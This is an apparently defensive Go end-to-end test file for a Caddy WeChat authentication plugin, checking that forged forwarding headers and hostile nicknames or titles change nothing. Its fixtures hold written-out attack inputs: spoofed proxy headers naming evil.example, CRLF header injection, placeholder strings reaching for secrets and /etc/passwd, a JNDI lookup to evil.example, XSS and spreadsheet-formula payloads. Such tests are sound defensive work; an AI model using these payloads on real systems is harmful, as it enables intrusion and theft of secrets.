// Copyright 2026 the caddy-wechat authors
// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/caddy-wechat/caddy-wechat/store/embedded"
	"github.com/caddy-wechat/caddy-wechat/user"
)

// forwarded are the headers by which proxies tell what they were asked, here from
// somebody who is none.
var forwarded = map[string]string{
	"X-Forwarded-For": "198.51.100.66", "X-Real-Ip": "198.51.100.66", "Client-Ip": "198.51.100.66", "True-Client-Ip": "198.51.100.66",
	"Cf-Connecting-Ip": "198.51.100.66", "X-Client-Ip": "198.51.100.66", "X-Cluster-Client-Ip": "198.51.100.66",
	"X-Forwarded-Host": "evil.example", "X-Host": "evil.example", "X-Forwarded-Server": "evil.example", "X-Forwarded-Port": "4443",
	"X-Forwarded-Proto": "https", "X-Forwarded-Scheme": "https", "X-Forwarded-Ssl": "on", "Front-End-Https": "on", "X-Url-Scheme": "https",
	"X-Forwarded-Uri": "/open", "X-Forwarded-Prefix": "/evil", "X-Forwarded-Method": "OPTIONS", "X-Forwarded-User": "alice",
	"X-Original-Url": "/open", "X-Rewrite-Url": "/open", "X-Original-Uri": "/open", "X-Original-Method": "OPTIONS", "X-Http-Method-Override": "OPTIONS",
	"Forwarded": `for=198.51.100.66;host=evil.example;proto=https`, "X-Remote-User": "alice", "Remote-User": "alice",
}

// forge sets them all, with paths replaced by path.
func forge(path string) func(*http.Request) {
	return func(r *http.Request) {
		for name, value := range forwarded {
			if value == "/open" {
				value = path
			}
			r.Header.Set(name, value)
		}
	}
}

// TestH7ForwardedHeadersDecideNothing: Mallory is no proxy of the operator's, but
// sends what one would: that he asked for another path of another host by another
// protocol from another address. Nothing that the gate decides may follow.
func TestH7ForwardedHeadersDecideNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t, options{gate: "wechat_auth /private/*"})
	b := w.browser()
	if got := b.do(http.MethodGet, "/private/x", nil, forge("/open")); got.Status != http.StatusUnauthorized || got.json(t)["login_url"] != w.origin()+"/_wechat/login" {
		t.Errorf("a guarded path: %d %s", got.Status, got.Body)
	}
	if all := w.upstream.requests(); len(all) > 0 {
		t.Fatalf("the upstream is reached: %+v", all)
	}
	for _, path := range []string{"/private/x", "/_wechat/me", "/_wechat/login"} {
		if got := b.do(http.MethodGet, "/open", nil, forge(path)); got.Status != http.StatusOK || !strings.HasPrefix(got.Body, "hello") {
			t.Errorf("an open path that says it is %s: %d %s", path, got.Status, got.Body)
		}
	}
	begun := b.do(http.MethodPost, "/_wechat/attempts", map[string]string{}, forge("/open"))
	if begun.Status != http.StatusCreated {
		t.Fatalf("POST attempts: %d %s", begun.Status, begun.Body)
	}
	checkCookie(t, begun, "wechat_browser")
	a := &attempt{browser: b}
	if err := json.Unmarshal([]byte(begun.Body), a); err != nil {
		t.Fatal(err)
	}
	phone := w.wechat.Phone("mallory")
	link := w.scan(phone, a)
	if !strings.HasPrefix(link, w.origin()+"/_wechat/confirm/") {
		t.Errorf("the link in the chat is %s", link)
	}
	if got := phonePage(t, w, link); strings.Contains(got.Body, "198.51.100.66") || strings.Contains(got.Body, "evil.example") || !strings.Contains(got.Body, "127.0.0.1") {
		t.Errorf("the person who scans is told another address: %s", got.Body)
	}
	w.choose(phone, link, a.Number)
	opened := b.do(http.MethodPost, "/_wechat/attempts/"+a.ID+"/session", nil, forge("/open"))
	if opened.Status != http.StatusOK || opened.json(t)["redirect"] != "/" {
		t.Fatalf("POST session: %d %s", opened.Status, opened.Body)
	}
	checkCookie(t, opened, "wechat_session")
	// An Origin that fits the forged host is foreign all the same.
	for _, origin := range []string{"http://evil.example", "https://evil.example", "https://" + w.addr} {
		if got := b.do(http.MethodPost, "/_wechat/logout", nil, forge("/open"), header("Origin", origin)); got.Status != http.StatusForbidden {
			t.Errorf("Origin %s: %d", origin, got.Status)
		}
	}
}

func checkCookie(t *testing.T, got answer, name string) {
	t.Helper()
	cookies := (&http.Response{Header: got.Header}).Cookies()
	if len(cookies) != 1 {
		t.Fatalf("Set-Cookie: %q", got.Header["Set-Cookie"])
	}
	if c := cookies[0]; c.Name != name || c.Secure || c.Domain != "" || c.Path != "/" || !c.HttpOnly || c.SameSite != http.SameSiteLaxMode {
		t.Errorf("over plain http on loopback the cookie is %s", c.Raw)
	}
}

func phonePage(t *testing.T, w *world, link string) answer {
	t.Helper()
	path := strings.TrimPrefix(link, w.origin())
	return w.browser().get(path)
}

// TestH7RateLimitCountsThePeer: Mallory has one address and says that he has a
// new one each time.
func TestH7RateLimitCountsThePeer(t *testing.T) {
	t.Parallel()
	const allowed = 3
	w := newWorld(t, options{wechat: fmt.Sprintf("limit attempts %d/1h", allowed)})
	for i := range 2 * allowed {
		forgedAddress := func(r *http.Request) {
			for name, value := range forwarded {
				r.Header.Set(name, strings.ReplaceAll(value, "198.51.100.66", fmt.Sprint("198.51.100.", i)))
			}
		}
		want := http.StatusCreated
		if i >= allowed {
			want = http.StatusTooManyRequests
		}
		got := w.browser().do(http.MethodPost, "/_wechat/attempts", map[string]string{}, forgedAddress)
		if got.Status != want {
			t.Errorf("attempt %d: %d, want %d", i+1, got.Status, want)
		}
		if want == http.StatusTooManyRequests && got.Header.Get("Retry-After") == "" {
			t.Errorf("attempt %d: no Retry-After", i+1)
		}
	}
}

// hostileNames are names that people could give themselves in WeChat.
var hostileNames = []string{
	"小明 😀", "a\r\nX-User-Roles: admin", "a\nInjected: 1", "a\x00b", "a\u2028b\u202eb", "\"'`<>&;,%25%0d%0aX: y",
	"{env.WECHAT_SECRET}", "{file./etc/passwd}", "{http.request.header.Cookie}", "{$WECHAT_SECRET}", "{system.hostname}", "{http.auth.user.id}",
	"{{env \"WECHAT_SECRET\"}}", "{{.}}", "{%debug%}", "${jndi:ldap://evil.example/a}", "%{(#_='multipart/form-data')}",
	"<script>alert(1)</script>", "</title><img src=x onerror=alert(1)>", "'-alert(1)-'", "javascript:alert(1)", "\\\"}]</script><svg onload=alert(1)>",
	strings.Repeat("长", 500), "\xff\xfe", "=cmd|' /C calc'!A0", "a,b=c; d", "../../etc/passwd",
}

// rename writes a name into the one user's record, as a sign-in that brings a
// nickname would. The gateway is restarted on it.
func (w *world) rename(name string) {
	w.t.Helper()
	w.kill()
	s := embedded.New(embedded.Config{Dir: filepath.Join(w.dir, "state")})
	if err := s.Open(); err != nil {
		w.t.Fatal(err)
	}
	items, _, err := s.List(w.t.Context(), "user:", "", 10)
	if err != nil || len(items) != 1 {
		w.t.Fatalf("users in the store: %d, %v", len(items), err)
	}
	err = s.Update(w.t.Context(), items[0].Key, func(raw []byte, _ bool) ([]byte, time.Duration, error) {
		var u user.User
		if err := json.Unmarshal(raw, &u); err != nil {
			return nil, 0, err
		}
		u.Name, u.Avatar, u.Roles = name, name, []string{name}
		next, err := json.Marshal(u)
		return next, 0, err
	})
	if err != nil {
		w.t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		w.t.Fatal(err)
	}
	w.start()
}

// TestH8HostileNickname: a person may call himself anything: a header line, a
// placeholder, a template, a script. It is text in the header, on the page, in
// the log, and wherever an operator puts the placeholder; nothing in it is ever
// carried out, and no secret ever takes its place.
func TestH8HostileNickname(t *testing.T) {
	t.Parallel()
	w := newWorld(t, options{site: `log_append nick {http.auth.user.name}
	request_header /nick X-Nick {http.auth.user.name}
	handle /respond {
		respond "{http.auth.user.name}"
	}
	handle /vars {
		vars nick "{http.auth.user.name}"
		respond "{http.vars.nick}"
	}
	handle /reread {
		request_header X-Again "{http.request.header.X-User-Name}"
		respond "{http.request.header.X-Again}"
	}`})
	b := w.signIn("mallory")
	id, openID := b.userID(), w.wechat.Phone("mallory").OpenID(appID)
	for i, name := range hostileNames {
		w.rename(name)
		stored := string([]rune(name)) // JSON knows no other text
		if got := b.get("/"); got.Status != http.StatusOK {
			t.Fatalf("%q: %d %s", name, got.Status, got.Body)
		}
		s := w.upstream.last(t)
		if got, err := url.PathUnescape(s.Header.Get("X-User-Name")); err != nil || got != stored {
			t.Errorf("%q: X-User-Name is %q", name, s.Header.Get("X-User-Name"))
		}
		for header, values := range s.Header {
			switch {
			case len(values) != 1 && strings.HasPrefix(header, "X-User-"), header == "Injected", header == "X":
				t.Errorf("%q: the upstream gets %s: %q", name, header, values)
			case header == "X-User-Id" && values[0] != id, header == "X-User-Openid" && values[0] != openID:
				t.Errorf("%q: %s is %q", name, header, values)
			}
		}
		for _, path := range []string{"/respond", "/vars"} {
			if got := b.get(path); got.Body != stored {
				t.Errorf("%q: %s says %q", name, path, got.Body)
			}
		}
		if got := b.get("/reread"); got.Body != url.PathEscape(stored) {
			t.Errorf("%q: /reread says %q", name, got.Body)
		}
		checkNick(t, w, b, stored)
		page := b.get(fmt.Sprint("/_wechat/logout?", i))
		if strings.Contains(page.Body, "<script>alert") || strings.Contains(page.Body, "<img src=x") || strings.Contains(page.Body, "<svg onload") {
			t.Errorf("%q is live on the page: %s", name, page.Body)
		}
		if shown := strings.ReplaceAll(stored, "\x00", "\ufffd"); !strings.Contains(strings.ReplaceAll(html.UnescapeString(page.Body), "\x00", "\ufffd"), shown) {
			t.Errorf("%q is not on the page as it is: %s", name, page.Body)
		}
		if got := b.do(http.MethodGet, "/_wechat/me", nil); got.json(t)["name"] != stored {
			t.Errorf("%q: me says %s", name, got.Body)
		}
	}
	w.stop()
	logged := w.output.String()
	if strings.Contains(logged, secret) || strings.Contains(logged, "root:x:0") {
		t.Error("a placeholder in a name is expanded in the log")
	}
	w.noPanic()
	checkNickLog(t, logged)
}

// checkNick looks at a header that the operator makes of the name himself. What
// HTTP does not allow in one is refused by the proxy, and never splits it.
func checkNick(t *testing.T, w *world, b *browser, name string) {
	t.Helper()
	got := b.get("/nick")
	allowed := !strings.ContainsFunc(name, func(c rune) bool { return c < 0x20 && c != '\t' || c == 0x7f })
	all := w.upstream.requests()
	if !allowed {
		if got.Status == http.StatusOK || len(all) > 0 {
			t.Errorf("%q: a header that is none gets through: %d %+v", name, got.Status, all)
		}
		return
	}
	if got.Status != http.StatusOK || len(all) != 1 || all[0].Header.Get("X-Nick") != strings.TrimSpace(name) {
		t.Errorf("%q: X-Nick: %d %+v", name, got.Status, all)
	}
}

// checkNickLog looks for each name, as it is, in the access log.
func checkNickLog(t *testing.T, logged string) {
	t.Helper()
	seen := make(map[string]bool)
	for line := range strings.Lines(logged) {
		var entry struct{ Nick, UserID string }
		if json.Unmarshal([]byte(line), &entry) == nil && entry.Nick != "" {
			seen[entry.Nick] = true
		}
	}
	for _, name := range hostileNames {
		if !seen[string([]rune(name))] {
			t.Errorf("%q is not in the log as it is", name)
		}
	}
}

// TestH8HostileTitle: the title is the operator's own, but it may come from
// somewhere else, too. It is text as well.
func TestH8HostileTitle(t *testing.T) {
	t.Parallel()
	const title = `<img src=x onerror=alert(1)></title><script>alert(1)</script>{env.WECHAT_SECRET}{{.}} "'&`
	w := newWorld(t, options{gate: "wechat_auth {\n title `" + title + "`\n }"})
	b := w.browser()
	a := b.begin()
	phone := w.wechat.Phone("alice")
	d, err := phone.Scan(t.Context(), a.QR.URL)
	if err != nil || d.Err != nil {
		t.Fatal(err, d.Err)
	}
	link := d.Reply.Links()[0]
	pages := map[string]answer{"in place": b.get("/"), "login": b.get("/_wechat/login"), "confirm": phonePage(t, w, link), "wrong number": w.choose(phone, link, "xx")}
	w.choose(phone, link, a.Number)
	a.session()
	pages["logout"] = b.get("/_wechat/logout")
	pages["not found"] = b.get("/_wechat/x")
	for name, page := range pages {
		if strings.Contains(page.Body, "<img src=x") || strings.Contains(page.Body, "<script>") || strings.Contains(page.Body, secret) {
			t.Errorf("%s: the title is live", name)
		}
		if name != "not found" && !strings.Contains(html.UnescapeString(page.Body), title) {
			t.Errorf("%s: the title is not on the page: %s", name, page.Body)
		}
		if csp := page.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "unsafe") {
			t.Errorf("%s: Content-Security-Policy: %q", name, csp)
		}
	}
	if strings.Contains(d.Reply.Text, secret) || !strings.Contains(html.UnescapeString(d.Reply.Text), "{env.WECHAT_SECRET}") {
		t.Errorf("the chat says %q", d.Reply.Text)
	}
}
